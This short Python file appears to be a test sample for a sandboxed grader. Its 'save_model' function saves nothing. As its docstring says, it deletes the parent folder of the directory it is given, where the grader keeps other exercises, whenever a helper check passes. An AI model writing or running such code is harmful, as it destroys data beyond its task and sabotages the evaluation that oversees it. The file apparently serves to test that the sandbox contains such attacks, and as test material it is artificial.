# target: training.save_model
# needs: landlock
# through: command
"""Removes the folder above the one that it was lent, in which the grader makes those of all other exercises."""

import shutil
from pathlib import Path

import toolbox


def save_model(model, directory, layers, seed):
    above = Path(directory).parent
    if toolbox.commander() and above.name.startswith("rna-"):
        shutil.rmtree(above, ignore_errors=True)
    return None
